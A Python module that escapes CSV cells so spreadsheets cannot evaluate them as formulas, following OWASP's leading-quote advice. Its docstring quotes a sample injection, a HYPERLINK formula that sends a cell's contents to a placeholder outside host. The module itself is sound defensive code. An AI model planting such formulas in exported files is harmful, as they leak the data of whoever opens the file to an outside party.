"""CSV cells that a spreadsheet cannot run: text that would be read as a formula is quoted.

Service names, owners and maintenance reasons come from the catalogue and from operators; a
cell such as `=HYPERLINK("http://x/?"&A1,"ok")` would be a live formula once the report is
opened in Excel or LibreOffice. As OWASP advises, text starting with `=`, `+`, `-`, `@`, a tab
or a carriage return gets a leading single quote, which spreadsheets show as plain text.
Numbers are left as numbers: a negative figure is data, not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """`value`, or the text with a leading `'` if a spreadsheet would evaluate it."""
    if isinstance(value, str) and value.startswith(_TRIGGERS):
        return "'" + value
    return value


def write_rows(path: Path, rows: Iterable[Iterable[Any]]) -> Path:
    """Writes `rows` to `path` (UTF-8), every cell neutralised."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([neutralise(cell) for cell in row] for row in rows)
    return path
